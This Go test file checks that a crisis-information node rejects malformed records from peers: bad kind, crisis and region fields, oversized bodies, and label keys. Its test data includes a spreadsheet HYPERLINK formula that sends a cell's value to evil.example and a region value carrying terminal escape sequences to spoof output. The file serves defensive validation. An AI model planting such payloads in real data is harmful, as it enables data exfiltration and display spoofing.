package peerclient

import (
	"strings"
	"testing"

	"github.com/knooppunt/knooppunt/node/config"
	pb "github.com/knooppunt/knooppunt/proto/knooppunt/v1"
)

// TestCheckSharedHoldsPeersToTheRulesOfOwnRecords: a peer's record must have a kind's name, a
// crisis name and a region as an own record must; a region that is a spreadsheet formula, or a
// "VR09" with a newline that would show as a second VR09 in the picture, is dropped.
func TestCheckSharedHoldsPeersToTheRulesOfOwnRecords(t *testing.T) {
	const origin = "lcvs.crisis.test"
	rec := func(kind, crisis, region string) *pb.SharedRecord {
		return &pb.SharedRecord{Record: &pb.Record{Id: "s1", Origin: origin, Kind: kind, Crisis: crisis, Region: region, Body: []byte(`{}`)}}
	}
	if err := CheckShared(origin, rec("water.level", "hoogwater", "VR08")); err != nil {
		t.Fatalf("a record of a kind this node need not know: %v", err)
	}
	for _, c := range []struct{ kind, crisis, region, field string }{
		{"shelter.capacity", "oekraine", `=HYPERLINK("http://evil.example/x?"&C2,"Zie details")`, "record.region"},
		{"shelter.capacity", "oekraine", "VR09\n\x1b[1A\x1b[2K", "record.region"},
		{"shelter.capacity", "Oekraine\r", "VR09", "record.crisis"},
		{"Shelter Capacity", "oekraine", "VR09", "record.kind"},
	} {
		err := CheckShared(origin, rec(c.kind, c.crisis, c.region))
		if err == nil || !strings.Contains(err.Error(), c.field+": ") {
			t.Errorf("kind %q crisis %q region %q: %v, want a refusal naming %s", c.kind, c.crisis, c.region, err, c.field)
		}
	}
}

// TestCheckSharedBoundsTheBody: a peer's record is taken with a body as large as any node writes
// (config.MaxBodyLimit), and dropped with one byte more: a peer that sent 3.5 MiB bodies filled
// the node's disk (review AD, AD3).
func TestCheckSharedBoundsTheBody(t *testing.T) {
	const origin = "lcvs.crisis.test"
	body := func(n int) []byte { return []byte(`{"t":"` + strings.Repeat("x", n-len(`{"t":""}`)) + `"}`) }
	rec := func(n int) *pb.SharedRecord {
		return &pb.SharedRecord{Record: &pb.Record{Id: "s1", Origin: origin, Kind: "sitrep", Crisis: "oekraine", Region: "VR09", Body: body(n)}}
	}
	if err := CheckShared(origin, rec(config.MaxBodyLimit)); err != nil {
		t.Fatalf("a body of %d bytes: %v", config.MaxBodyLimit, err)
	}
	if err := CheckShared(origin, rec(config.MaxBodyLimit+1)); err == nil || !strings.Contains(err.Error(), "over the 3145728 that any node writes") {
		t.Fatalf("a body of %d bytes: %v, want it dropped", config.MaxBodyLimit+1, err)
	}
}

// TestCheckSharedTakesLabelValuesOfEarlierReleases: a partner's record whose label values an
// earlier release took, such as an emoji with its presentation selector or a tab, is taken
// still, whatever characters they hold; an own record is held to fewer characters since review AF, and the node dropped such
// records of partners after an upgrade (review AG, AG3). Its keys are held to the rule.
func TestCheckSharedTakesLabelValuesOfEarlierReleases(t *testing.T) {
	const origin = "lcvs.crisis.test"
	rec := func(labels map[string]string) *pb.SharedRecord {
		return &pb.SharedRecord{Record: &pb.Record{Id: "s1", Origin: origin, Kind: "sitrep", Crisis: "oekraine", Region: "VR09", Body: []byte(`{}`), Labels: labels}}
	}
	if err := CheckShared(origin, rec(map[string]string{"urgentie": "⚠️ hoog", "bron": "a\tb", "gezin": "👨\u200d👩\u200d👧", "oud": "a\u202eb"})); err != nil {
		t.Fatalf("a record with the label values of an earlier release: %v", err)
	}
	if err := CheckShared(origin, rec(map[string]string{"Urgentie": "hoog"})); err == nil || !strings.Contains(err.Error(), "record.labels.Urgentie: ") {
		t.Fatalf("a label key with a capital: %v, want it dropped", err)
	}
}
